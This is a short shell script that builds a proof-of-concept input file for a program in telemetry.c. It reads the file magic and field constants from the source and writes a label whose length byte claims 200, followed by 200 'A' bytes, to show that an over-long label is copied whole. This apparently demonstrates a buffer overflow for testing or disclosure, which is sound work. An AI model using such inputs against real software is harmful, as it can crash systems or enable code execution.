# A label longer than its room; all numbers are read from the program.
set -eu
value() { sed -n "s/.*[ {]$1 = \([0-9]*\).*/\1/p" telemetry.c; }
byte() { printf "\\$(printf %03o "$1")"; }
{
  sed -n 's/#define MARK "\(.*\)"/\1/p' telemetry.c | tr -d '\n'
  byte "$(value VERSION)"
  byte "$(value LABEL)"
  byte 200
  head -c 200 /dev/zero | tr '\0' 'A'
} > poc.bin
echo 'a label longer than LABEL_BYTES is copied whole'
